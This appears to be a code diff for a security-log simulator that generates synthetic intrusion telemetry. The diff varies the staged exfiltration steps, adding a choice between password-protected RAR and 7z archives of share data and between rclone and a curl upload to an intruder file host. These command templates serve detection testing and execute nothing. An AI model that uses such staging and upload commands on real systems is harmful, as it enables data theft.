@@ -16,15 +16,18 @@ pub(super) fn archived(desk: &mut Desk<'_>, count: usize) {
     let share = world.register_share();
     let cx = desk.cx;
     let folder = desk.temp();
+    let rar = desk.dice.once_in(2);
     for number in 0..count {
         desk.wait(60, 300);
         let name = desk.dice.letters(5);
         let town = world.names.towns[number % world.names.towns.len()].replace(' ', "");
         let image = format!("{folder}\\{}.exe", world.intruder.tools[1]);
-        let command = format!(
-            "{image}  a -v200m -hp{} {folder}\\{name}.7z \"{}\\{town}\\*\"",
-            world.intruder.password, share.folder
-        );
+        let (password, source) = (&world.intruder.password, format!("\"{}\\{town}\\*\"", share.folder));
+        let command = if rar {
+            format!("{image}  a -v200m -hp{password} -m3 {folder}\\{name}.rar {source}")
+        } else {
+            format!("{image}  a -v200m -p{password} -mhe {folder}\\{name}.7z {source}")
+        };
         desk.hostile(
             "archive-staging",
             "packed register copies with a password, in parts, into an open folder",
@@ -43,11 +46,12 @@ pub(super) fn archived(desk: &mut Desk<'_>, count: usize) {
         process.sysmon(&cx, desk.plan.out("fs-sysmon"), desk.now, &world.hosts.fs);
         process.security(&cx, desk.plan.out("fs-security"), desk.now + 500);
         for part in 1..=2 {
-            let path = format!("{folder}\\{name}.7z.{part:03}");
+            let file = if rar { format!("{name}.part{part:02}.rar") } else { format!("{name}.7z.{part:03}") };
+            let path = format!("{folder}\\{file}");
             let at = desk.now + part * 40 * SECOND;
             windows::file_created(&cx, desk.plan.out("fs-sysmon"), at, &world.hosts.fs, &image, &path);
             desk.at_risk(Exposed::File, &path, ExposureKind::Taken);
-            desk.archives.push(format!("{name}.7z.{part:03}"));
+            desk.archives.push(file);
         }
         desk.now += 2 * MINUTE;
     }
@@ -96,13 +100,18 @@ fn fetched(desk: &mut Desk<'_>, stem: &str) {
 fn sent(desk: &mut Desk<'_>, count: usize) {
     let world = desk.cx.world;
     let host = world.intruder.file_host.clone();
-    let tool = format!("{}\\{}.exe", desk.temp(), world.intruder.tools[4]);
-    let line = format!(
-        "{tool}  copy {} remote:{} --transfers 4 --no-check-certificate --config {}\\r.conf",
-        desk.temp(),
-        world.intruder.tools[2],
-        desk.temp()
-    );
+    let curl = desk.dice.once_in(2);
+    let (folder, name) = (desk.temp(), &world.intruder.tools[2]);
+    let (tool, line) = if curl {
+        let tool = "C:\\Windows\\System32\\curl.exe".to_owned();
+        (tool, format!("curl  -k -F \"file=@{folder}\\{name}.7z\" https://{host}/upload"))
+    } else {
+        let tool = format!("{folder}\\{}.exe", world.intruder.tools[4]);
+        let line = format!(
+            "{tool}  copy {folder} remote:{name} --transfers 4 --no-check-certificate --config {folder}\\r.conf"
+        );
+        (tool, line)
+    };
     run(desk, "exfiltration", "a tool for uploads was run", &[line.replace("  ", " "), tool.clone(), line]);
     let ex = &world.hosts.ex;
     for number in 0..count {
@@ -112,12 +121,12 @@ fn sent(desk: &mut Desk<'_>, count: usize) {
         let request = proxy::Request {
             client: &ex.ip,
             user: "-",
-            method: "PUT",
+            method: if curl { "POST" } else { "PUT" },
             scheme: "https",
             host: &host,
             path: &path,
             status: 201,
-            agent: "rclone/v1.57.0",
+            agent: if curl { "curl/7.83.1" } else { "rclone/v1.57.0" },
             kind: "application/json",
             sent: desk.dice.within(200..900),
             received: desk.dice.within(40_000_000..209_715_200),
